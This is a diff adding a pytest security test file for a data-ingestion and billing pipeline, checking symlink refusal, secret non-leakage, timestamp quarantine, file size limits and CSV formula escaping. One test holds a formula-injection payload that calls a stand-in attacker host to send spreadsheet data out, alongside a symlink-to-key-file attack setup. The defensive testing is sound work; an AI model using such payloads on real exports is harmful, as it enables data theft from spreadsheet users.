@@ -1,0 +1,118 @@
+"""Attacks through landing files and exports (issue 15, attacks 13 to 16)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import logging
+from collections.abc import Iterator
+
+import pandas as pd
+import psycopg
+import pytest
+
+from core.db import scratch_database
+from ingestion.errors import IngestError
+from ingestion.loader import ingest_file
+
+SECRET = "K3Y-MATERIAL-do-not-leak-0123456789abcdefghijklmnopqrstuvwxyz"
+
+
+@pytest.fixture()
+def raw_db(database_url: str) -> Iterator[str]:
+    with scratch_database(database_url, "hcp_sec_raw") as url:
+        yield url
+
+
+def test_symlink_to_the_key_file_is_refused_and_nothing_leaks(raw_db, tmp_path, caplog):
+    key_file = tmp_path / "pii.key"
+    key_file.write_text(SECRET + "\n")
+    landing = tmp_path / "landing"
+    landing.mkdir()
+    link = landing / "telemetry.csv"
+    link.symlink_to(key_file)
+    caplog.set_level(logging.DEBUG)
+    with pytest.raises(IngestError, match="symbolic link") as err:
+        ingest_file(raw_db, "telemetry", link)
+    assert SECRET[:8] not in str(err.value)
+    assert SECRET[:8] not in caplog.text
+    with psycopg.connect(raw_db) as conn:
+        stored = conn.execute("select string_agg(t::text, ' ') from raw.load_log as t").fetchone()[0] or ""
+        stored += conn.execute(
+            "select coalesce(string_agg(q::text, ' '), '') from raw.quarantine q"
+        ).fetchone()[0]
+    assert SECRET[:8] not in stored
+
+
+def test_header_errors_echo_only_a_few_bytes(raw_db, tmp_path):
+    bad = tmp_path / "telemetry.csv"
+    bad.write_text(SECRET + "," + SECRET + "\n1,2\n")
+    with pytest.raises(IngestError) as err:
+        ingest_file(raw_db, "telemetry", bad)
+    assert SECRET[:30] not in str(err.value)
+
+
+def _miner(when) -> str:
+    return json.dumps(
+        {
+            "device_id": "asic-0001",
+            "summary": {
+                "STATUS": [{"STATUS": "S", "When": when}],
+                "SUMMARY": [{"GHS 5s": 1.0, "Power": 3000}],
+            },
+            "stats": {"STATUS": [{"STATUS": "S"}], "STATS": [{}, {"temp1": 50}]},
+        }
+    )
+
+
+def test_overflowing_and_1970_timestamps_are_quarantined(raw_db, tmp_path):
+    path = tmp_path / "miner.jsonl"
+    path.write_text("\n".join([_miner(1e20), _miner(0), _miner(-1e300), _miner(1768435200)]) + "\n")
+    result = ingest_file(raw_db, "miner", path)  # no OverflowError
+    assert result.rows_in == 4
+    with psycopg.connect(raw_db) as conn:
+        reasons = conn.execute(
+            "select line_no, field, reason from raw.quarantine order by line_no"
+        ).fetchall()
+        oldest = conn.execute("select min(ts) from raw.device_telemetry").fetchone()[0]
+    window = {line: reason for line, field, reason in reasons if field == "When"}
+    assert set(window) == {1, 2, 3}
+    assert all("time window" in reason for reason in window.values())
+    assert oldest is None or oldest.year >= 2000  # nothing from 1970 reaches dedup or the table
+
+
+def test_file_over_the_size_limit_is_refused(raw_db, tmp_path, monkeypatch):
+    monkeypatch.setenv("HCP_INGEST_MAX_FILE_MB", "0.001")  # about 1 KB
+    big = tmp_path / "telemetry.csv"
+    big.write_text("device_id,ts,power_kw\n" + "asic-0001,2026-01-15T00:00:00Z,3.41\n" * 100)
+    with pytest.raises(IngestError, match="over the limit"):
+        ingest_file(raw_db, "telemetry", big)
+
+
+def test_csv_exports_escape_formulas(conn):
+    from billing.reports import render_invoice_csv, safe_csv
+
+    payload = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+    with conn.transaction():
+        invoice_id = conn.execute(
+            """insert into billing.invoices (customer_id, period, period_start, period_end, timezone)
+               values ('sec-csv', '2031-01', '2031-01-01', '2031-02-01', 'UTC') returning invoice_id"""
+        ).fetchone()[0]
+        conn.execute(
+            """insert into billing.invoice_lines (invoice_id, line_no, line_kind, description, quantity, unit,
+                   unit_price_usd, amount_usd) values (%s, 1, 'usage', %s, 1, 'GPU-hour', 1, -1)""",
+            (invoice_id, payload),
+        )
+    try:
+        _, content = render_invoice_csv(conn, invoice_id)
+        rows = list(csv.DictReader(io.StringIO(content.decode())))
+        assert rows[0]["description"] == "'" + payload
+        assert rows[0]["amount_usd"] == "-1.00"  # numbers stay numbers
+        exported = safe_csv(pd.DataFrame({"customer_id": ["@SUM(1+1)", "plain"], "total": [-3.5, 2.0]}))
+        assert list(csv.reader(io.StringIO(exported.decode())))[1:] == [
+            ["'@SUM(1+1)", "-3.5"],
+            ["plain", "2.0"],
+        ]
+    finally:
+        conn.execute("delete from billing.invoices where invoice_id = %s", (invoice_id,))
